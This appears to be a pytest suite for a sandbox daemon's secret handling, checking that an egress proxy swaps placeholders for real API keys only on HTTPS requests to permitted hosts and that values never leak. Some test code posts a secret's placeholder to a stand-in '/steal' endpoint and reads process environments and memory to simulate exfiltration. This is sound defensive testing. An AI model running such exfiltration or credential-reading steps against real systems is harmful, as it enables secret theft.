"""Secrets outside the sandbox: a policy's (read from the daemon's environment) and a
session's own (set through the API, write-only). The sandbox's variable holds a
placeholder; the egress proxy puts the real value in its place only in requests to
the secret's hosts, refuses a request carrying the placeholder anywhere else, and
puts the placeholder back where a secret's host echoes the value. The real value is
then searched for everywhere it must not be: what the sandbox printed, its files,
the environment of its processes, the run records, the daemon's log and metrics,
and every answer of the API.
"""

import json
import os
import re
import secrets as pysecrets
from pathlib import Path

import pytest

from conftest import error_code
from egress_hosts import SANDBOX_FETCH

VALUE = "sk-test-" + pysecrets.token_hex(24)
SESSION_VALUE = "tok-" + pysecrets.token_hex(24)

POLICY = """
description = "A secret for the api test host."
timeout_s = 30
network = "allowlist"
allow_hosts = ["api.test.example", "data.test.example", "untrusted.test.example"]
allow_ports = [80, 443]
packages_mb = 0

[[secrets]]
name = "API_KEY"
hosts = ["api.test.example"]
value_from = "env:SANDBOXD_TEST_API_KEY"
substitute_in = ["headers", "url", "body"]
"""

PLAIN_HTTP = "over plain http, where anyone on the way would read the value: use https"

FETCH = SANDBOX_FETCH + 'key = os.environ["API_KEY"]\n'


@pytest.fixture(scope="module")
def d(egress_daemon):
    return egress_daemon(policy=POLICY, name="sec", env={"SANDBOXD_TEST_API_KEY": VALUE})


def run(daemon, code, **fields):
    r = daemon.run(FETCH + code, policy="sec", **fields)
    assert r["status"] == "ok", r
    return json.loads(r["stdout"].strip().splitlines()[-1]), r


def test_the_sandbox_sees_a_placeholder_and_the_secrets_host_gets_the_value(d, test_hosts):
    test_hosts.reset()
    out, result = run(d, '''
print(json.dumps({
    "key": key,
    "header": fetch("https://api.test.example/auth", headers={"Authorization": "Bearer " + key}),
    "query_and_body": fetch("https://api.test.example/q?api_key=" + key, data=json.dumps({"key": key}).encode(),
                            headers={"Content-Type": "application/json"}),
    "reflect": fetch("https://api.test.example/reflect", headers={"Authorization": "Bearer " + key}),
    "plain_http": fetch("http://api.test.example/plain", headers={"Authorization": "Bearer " + key}),
}))
''')
    placeholder = out["key"]
    assert re.fullmatch(r"sandboxd-secret-[0-9a-f]{32}", placeholder), placeholder
    # What the host received: the value, in the header, the query and the body.
    got = test_hosts.requests("api.test.example", path="/auth")[0]
    assert got["headers"]["authorization"] == f"Bearer {VALUE}"
    got = test_hosts.requests("api.test.example", path=f"/q?api_key={VALUE}")
    assert len(got) == 1 and json.loads(got[0]["body"]) == {"key": VALUE}
    # What the sandbox got back: the echo, and a raw reflection, show the placeholder.
    echoed = json.loads(out["header"]["body"])
    assert echoed["headers"]["authorization"] == f"Bearer {placeholder}"
    assert out["reflect"] == {"status": 200, "body": f"Bearer {placeholder}"}
    assert json.loads(out["query_and_body"]["body"])["path"] == f"/q?api_key={placeholder}"
    # Never over plain http, even to the secret's own host: refused, nothing sent.
    assert out["plain_http"]["status"] == 403
    assert out["plain_http"]["reason"].startswith("secret_not_allowed: ")
    assert out["plain_http"]["reason"].endswith(PLAIN_HTTP)
    assert test_hosts.requests("api.test.example", path="/plain") == []
    assert VALUE not in json.dumps(result)


def test_a_secret_goes_only_where_its_policy_lets_it_and_never_comes_back(d, test_hosts):
    """A session's own secret substitutes in headers only (the default); the host's
    answer cannot bring its value back in a status line or a compressed body."""
    with d.http() as c:
        sid = c.post("/v1/sessions", json={"policy": "sec"}).json()["id"]
        r = c.put(f"/v1/sessions/{sid}/secrets/OWN", json={"value": SESSION_VALUE, "hosts": ["api.test.example"]})
        assert r.json()["substitute_in"] == ["headers"], r.text
        test_hosts.reset()
        r = c.post(f"/v1/sessions/{sid}/runs", json={"code": FETCH + '''
own = os.environ["OWN"]
print(json.dumps({
    "body": fetch("https://api.test.example/in-body", data=("k=" + own).encode()),
    "url": fetch("https://api.test.example/in-url?k=" + own),
    "reason": urllib.request.urlopen(urllib.request.Request("https://api.test.example/reflect-reason",
                                                            headers={"Authorization": own}), timeout=20).reason,
    "gzip": fetch("https://api.test.example/gzip", headers={"Authorization": own}),
    "named": dict(urllib.request.urlopen(urllib.request.Request("https://api.test.example/reflect-name",
                                                                headers={"Authorization": own}), timeout=20).headers),
    "own": own,
}))
'''}).json()
    out = json.loads(r["stdout"].strip().splitlines()[-1])
    where = "where the secret may not go (substitute_in = [\"headers\"])"
    for place, said, path in (("body", "body", "/in-body"), ("url", "URL", "/in-url")):
        assert out[place]["status"] == 403, out
        assert out[place]["reason"] == ("secret_not_allowed: the request to api.test.example carries the placeholder "
                                        f"of secret OWN in its {said}, {where}"), out[place]
        assert test_hosts.requests("api.test.example", path=path, scheme="https") == []
    # The value reached the host in the header, and its echo in the reason phrase
    # came back as the placeholder.
    assert test_hosts.requests("api.test.example", path="/reflect-reason")[0]["headers"]["authorization"] == SESSION_VALUE
    assert out["reason"] == out["own"]
    # A compressed answer of a secret's host is refused, not passed on unread.
    assert test_hosts.requests("api.test.example", path="/gzip")[0]["headers"]["authorization"] == SESSION_VALUE
    assert out["gzip"]["status"] == 502 and out["gzip"]["reason"].startswith("answer_refused: "), out["gzip"]
    assert "answered with a content coding though asked for identity" in out["gzip"]["reason"]
    # A header named with the value is dropped; the others pass.
    named = {k.lower() for k in out["named"]}
    assert "x-seen" in named and not any(k.startswith(("x-tok-", "x-sandboxd")) for k in named), named
    assert SESSION_VALUE not in r["stdout"] + r["stderr"]
    assert {x["code"] for x in r["usage"]["net"]["refused"]} == {"secret_not_allowed", "answer_refused"}


def test_the_placeholder_sent_to_another_host_is_refused_where_the_proxy_reads_it(d, test_hosts):
    test_hosts.reset()
    out, result = run(d, '''
print(json.dumps({
    "https": fetch("https://data.test.example/steal", headers={"Authorization": key}),
    "http_body": fetch("http://data.test.example/steal", data=("k=" + key).encode()),
    "plain": fetch("http://data.test.example/fine"),
}))
''')
    reason = ("secret_not_allowed: the request to data.test.example carries the placeholder of secret API_KEY, "
              "which only api.test.example may receive")
    # data.test.example carries no secret, so its tunnel is not looked into: the
    # placeholder travels inside TLS to an allowed host, where it is worthless.
    assert out["https"]["status"] == 200
    assert test_hosts.requests("data.test.example", path="/steal", scheme="https")[0]["headers"]["authorization"] != VALUE
    # Plain HTTP the proxy reads: refused, and the host never got it.
    assert (out["http_body"]["status"], out["http_body"]["reason"]) == (403, reason)
    assert test_hosts.requests("data.test.example", path="/steal", scheme="http") == []
    assert out["plain"]["status"] == 200
    assert [r["code"] for r in result["usage"]["net"]["refused"]] == ["secret_not_allowed"]


def test_a_secrets_host_is_checked_against_the_hosts_bundle_before_the_value_goes(d, test_hosts):
    """The proxy ends the sandbox's TLS for a secret's host and opens its own to the
    host: a server the host's bundle does not vouch for never gets the value."""
    with d.http() as c:
        sid = c.post("/v1/sessions", json={"policy": "sec"}).json()["id"]
        r = c.put(f"/v1/sessions/{sid}/secrets/ROGUE", json={"value": SESSION_VALUE, "hosts": ["untrusted.test.example"]})
        assert r.status_code == 200, r.text
        test_hosts.reset()
        r = c.post(f"/v1/sessions/{sid}/runs", json={"code": FETCH + '''
print(json.dumps(fetch("https://untrusted.test.example/rogue", headers={"Authorization": os.environ["ROGUE"]})))
'''}).json()
    assert r["status"] == "ok", r
    out = json.loads(r["stdout"].strip().splitlines()[-1])
    assert out["status"] == 502, out
    assert out["reason"] == "connect_failed: untrusted.test.example:443: TLS: invalid peer certificate: UnknownIssuer", out
    assert test_hosts.requests(host="untrusted.test.example") == []
    assert SESSION_VALUE not in json.dumps(r)
    assert [x["code"] for x in r["usage"]["net"]["refused"]] == ["connect_failed"], r["usage"]["net"]


def test_the_host_ca_bundle_is_read_only_in_the_sandbox(d):
    r = d.run("""
import errno, os
for path in (os.environ["SSL_CERT_FILE"], "/etc/ssl/certs/ca-certificates.crt"):
    try:
        open(path, "a").write("x")
        print(path, "written")
    except OSError as e:
        print(path, errno.errorcode[e.errno])
""", policy="sec")
    assert r["status"] == "ok", r
    lines = r["stdout"].splitlines()
    assert len(lines) == 2 and all(l.endswith(" EROFS") for l in lines), r["stdout"]


def test_a_sessions_own_secret_is_write_only(d, test_hosts):
    with d.http() as c:
        sid = c.post("/v1/sessions", json={"policy": "sec"}).json()["id"]
        r = c.put(f"/v1/sessions/{sid}/secrets/DATA_TOKEN", json={"value": SESSION_VALUE, "hosts": ["data.test.example"]})
        assert r.status_code == 200, r.text
        assert r.json() == {"name": "DATA_TOKEN", "hosts": ["data.test.example"], "substitute_in": ["headers"],
                            "source": "session"}
        listed = c.get(f"/v1/sessions/{sid}/secrets")
        assert listed.json() == [
            {"name": "API_KEY", "hosts": ["api.test.example"], "substitute_in": ["headers", "url", "body"],
             "source": "policy"},
            {"name": "DATA_TOKEN", "hosts": ["data.test.example"], "substitute_in": ["headers"], "source": "session"},
        ]
        # Refusals: a host the policy does not allow, a policy's name, a bad value, no JSON type.
        bad = [
            c.put(f"/v1/sessions/{sid}/secrets/X", json={"value": "v", "hosts": ["evil.example"]}),
            c.put(f"/v1/sessions/{sid}/secrets/API_KEY", json={"value": "v", "hosts": ["api.test.example"]}),
            c.put(f"/v1/sessions/{sid}/secrets/X", json={"value": "a\nb", "hosts": ["data.test.example"]}),
            c.put(f"/v1/sessions/{sid}/secrets/HTTPS_PROXY", json={"value": "v", "hosts": ["data.test.example"]}),
            c.put(f"/v1/sessions/{sid}/secrets/X", json={"value": "v", "hosts": ["data.test.example"], "extra": 1}),
        ]
        assert [(b.status_code, error_code(b)) for b in bad] == [(400, "invalid_request")] * 5, [b.text for b in bad]
        assert "evil.example is not in allow_hosts" in bad[0].json()["error"]["message"]
        raw = c.put(f"/v1/sessions/{sid}/secrets/X", content=b'{"value":"v","hosts":[]}')
        assert (raw.status_code, error_code(raw)) == (415, "unsupported_media_type")
        test_hosts.reset()
        r = c.post(f"/v1/sessions/{sid}/runs", json={"code": FETCH + '''
tok = os.environ["DATA_TOKEN"]
print(json.dumps({"tok": tok, "r": fetch("https://data.test.example/t", headers={"X-Token": tok})}))
'''}).json()
        out = json.loads(r["stdout"].strip().splitlines()[-1])
        assert out["tok"].startswith("sandboxd-secret-") and out["tok"] != SESSION_VALUE
        assert test_hosts.requests("data.test.example", path="/t")[0]["headers"]["x-token"] == SESSION_VALUE
        assert json.loads(out["r"]["body"])["headers"]["x-token"] == out["tok"]
        # Gone once deleted; a second delete is a 404.
        assert c.delete(f"/v1/sessions/{sid}/secrets/DATA_TOKEN").json() == {"status": "deleted"}
        again = c.delete(f"/v1/sessions/{sid}/secrets/DATA_TOKEN")
        assert (again.status_code, error_code(again)) == (404, "not_found")
        r = c.post(f"/v1/sessions/{sid}/runs", json={"code": "import os; print(os.environ.get('DATA_TOKEN'))"}).json()
        assert r["stdout"] == "None\n"
        # No answer of the API holds a value.
        answers = [c.get(p).text for p in ("/v1/policies", "/v1/sessions", f"/v1/sessions/{sid}", f"/v1/sessions/{sid}/secrets",
                                           f"/v1/sessions/{sid}/runs", "/v1/health", "/metrics", "/v1/openapi.json")]
        assert not any(VALUE in a or SESSION_VALUE in a for a in answers)


def test_a_kernel_keeps_its_placeholders_and_sees_secrets_set_later(d, test_hosts):
    with d.http() as c:
        sid = c.post("/v1/sessions", json={"policy": "sec", "mode": "kernel"}).json()["id"]
        first = c.post(f"/v1/sessions/{sid}/runs", json={"code": "import os\nk = os.environ['API_KEY']\nk"}).json()
        c.put(f"/v1/sessions/{sid}/secrets/LATER", json={"value": SESSION_VALUE, "hosts": ["data.test.example"]})
        test_hosts.reset()
        second = c.post(f"/v1/sessions/{sid}/runs", json={"code": FETCH + '''
print(json.dumps({"same": key == k, "later": os.environ["LATER"],
                  "r": fetch("https://data.test.example/later", headers={"X-Later": os.environ["LATER"]})["status"]}))
'''}).json()
        assert second["status"] == "ok" and not second["kernel_restarted"], second
        out = json.loads(second["stdout"].strip().splitlines()[-1])
        assert out["same"] and out["later"].startswith("sandboxd-secret-") and out["r"] == 200
        assert test_hosts.requests("data.test.example", path="/later")[0]["headers"]["x-later"] == SESSION_VALUE
        assert first["result"]["text/plain"].startswith("'sandboxd-secret-")
        # Deleted, it is gone for the running kernel too: its placeholder is now
        # sent as it is, worthless.
        assert c.delete(f"/v1/sessions/{sid}/secrets/LATER").json() == {"status": "deleted"}
        test_hosts.reset()
        third = c.post(f"/v1/sessions/{sid}/runs", json={"code": FETCH + '''
print(json.dumps(fetch("https://data.test.example/deleted", headers={"X-Later": os.environ["LATER"]})["status"]))
'''}).json()
        assert third["status"] == "ok" and not third["kernel_restarted"], third
        assert test_hosts.requests("data.test.example", path="/deleted")[0]["headers"]["x-later"] == out["later"]
        # The kernel's processes hold the placeholders only, in their environment and
        # memory (a kernel started in a template's fork set them in its memory only:
        # /proc's environ is the template's from its start).
        kernel_pid, kernel_uid = d.kernel_process(sid)
        holders = _processes_of(kernel_uid)
        assert kernel_pid in holders
        environs = {pid: Path(f"/proc/{pid}/environ").read_bytes() for pid in holders}
        assert any(b"API_KEY=sandboxd-secret-" in e for e in environs.values()) or _memory_holds(
            kernel_pid, [b"API_KEY=sandboxd-secret-"]), "the kernel holds no placeholder: not the kernel's process?"
        for pid, environ in environs.items():
            assert VALUE.encode() not in environ and SESSION_VALUE.encode() not in environ
            assert not _memory_holds(pid, [VALUE.encode(), SESSION_VALUE.encode()]), f"pid {pid} holds a value"


def _processes_of(uid):
    """Host pids of the processes running as `uid`."""
    pids = []
    for p in Path("/proc").iterdir():
        if p.name.isdigit():
            try:
                if int((p / "status").read_text().split("Uid:")[1].split()[1]) == uid:
                    pids.append(int(p.name))
            except (OSError, IndexError, ValueError):
                pass
    return sorted(pids)


def _memory_holds(pid, needles):
    """Whether any readable mapping of `pid` contains one of `needles`."""
    try:
        maps = Path(f"/proc/{pid}/maps").read_text().splitlines()
        mem = open(f"/proc/{pid}/mem", "rb")
    except OSError:
        return False
    with mem:
        for line in maps:
            addr, perms = line.split()[:2]
            if "r" not in perms:
                continue
            start, end = (int(x, 16) for x in addr.split("-"))
            if end - start > 512 << 20:
                continue
            try:
                mem.seek(start)
                chunk = mem.read(end - start)
            except (OSError, ValueError, OverflowError):
                continue
            if any(n in chunk for n in needles):
                return True
    return False


def test_the_value_is_nowhere_the_sandbox_the_records_the_log_or_the_metrics_reach(d, test_hosts):
    with d.http() as c:
        sid = c.post("/v1/sessions", json={"policy": "sec"}).json()["id"]
        code = FETCH + '''
r = fetch("https://api.test.example/reflect", headers={"Authorization": key})
open("echo.txt", "w").write(r["body"])
print(r["body"])
import sys; print(open("/proc/self/environ").read(), file=sys.stderr)
'''
        results = [c.post(f"/v1/sessions/{sid}/runs", json={"code": code}).json() for _ in range(2)]
        assert all(r["status"] == "ok" for r in results), [(r["status"], r.get("stderr", "")[-2000:]) for r in results]
        files = c.get(f"/v1/sessions/{sid}/files").json()
        contents = [c.get(f["url"].split(d.url, 1)[-1]).content for f in files]
        assert contents and all(b"sandboxd-secret-" in x for x in contents)
        metrics = c.get("/metrics").text
    assert test_hosts.requests("api.test.example", path="/reflect")[-1]["headers"]["authorization"] == VALUE
    haystacks = {"results": json.dumps(results).encode(), "files": b"".join(contents), "metrics": metrics.encode(),
                 "log": Path(d.log_path).read_bytes()}
    for f in (d.state / "sessions").rglob("*"):
        if f.is_file() and f.suffix != ".img":
            haystacks[str(f)] = f.read_bytes()
    for name, hay in haystacks.items():
        assert VALUE.encode() not in hay, f"the secret's value is in {name}"


def test_a_secret_the_daemon_cannot_read_stops_its_start(fresh_daemon, test_hosts):
    from conftest import egress_daemon_kwargs
    with pytest.raises(RuntimeError) as e:
        fresh_daemon(**egress_daemon_kwargs(test_hosts, policy=POLICY, name="sec"))
    assert ('policy "sec", secret API_KEY: value_from = "env:SANDBOXD_TEST_API_KEY", but the daemon\'s environment has no '
            'SANDBOXD_TEST_API_KEY') in str(e.value)
